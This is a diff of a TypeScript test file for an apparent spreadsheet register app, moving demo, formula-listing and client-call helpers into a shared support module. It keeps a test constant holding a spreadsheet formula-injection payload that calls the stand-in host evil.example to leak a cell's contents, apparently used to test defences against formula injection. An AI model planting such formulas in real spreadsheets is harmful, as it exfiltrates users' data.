@@ -6,28 +6,16 @@
  */
 import * as path from 'node:path';
 import { Emulator } from '../../src/emulator/app';
-import { openDemo } from '../../src/demo/seed';
 import { OWNER, STAFF } from '../../src/emulator/accounts';
 import { AUDIT_TAB, columnKeysFromHeader } from '../../src/core/schema';
 import { verifyChain, AuditEntry } from '../../src/core/audit';
 import { sha256Hex } from '../../src/core/sha256';
 import { buildSync } from 'esbuild';
 import { scriptRuntime } from '../support/emulator';
+import { call, demo, formulas } from '../support/register';
 
-const dist = path.resolve(__dirname, '../../dist');
-const demo = () => openDemo({ distDir: dist, stateFile: null, fresh: true });
 
 const EVIL = '=IMAGE("http://evil.example/leak.png?"&A2)';
-
-function formulas(em: Emulator, sheet?: string): { sheet: string; row: number; column: number; formula: string }[] {
-  const out: { sheet: string; row: number; column: number; formula: string }[] = [];
-  for (const name of sheet ? [sheet] : em.world.spreadsheet.sheetNames()) {
-    em.world.spreadsheet.snapshot(name)!.formulas.forEach((r, i) => r.forEach((f, j) => {
-      if (f !== '') out.push({ sheet: name, row: i + 1, column: j + 1, formula: f });
-    }));
-  }
-  return out;
-}
 
 /**
  * A cell as the register reads it: in a plain-text cell Sheets keeps the literal-text marker
@@ -36,12 +24,6 @@ function formulas(em: Emulator, sheet?: string): { sheet: string; row: number; c
 function cell(em: Emulator, sheet: string, row: number, column: number): unknown {
   const v = (em.world.spreadsheet.snapshot(sheet)!.values[row - 1] as unknown[] | undefined)?.[column - 1];
   return typeof v === 'string' && /^'[=']/.test(v) ? v.slice(1) : v;
-}
-
-function call<T = Record<string, unknown>>(em: Emulator, fn: string, arg: unknown, user = STAFF): T {
-  const report = em.callFromClient(fn, arg === undefined ? [] : [arg], user);
-  if (!report.ok) throw new Error(report.error!.message);
-  return report.result as T;
 }
 
 /** The audit log as an auditor reads it: columns by their headers, empty rows skipped. */
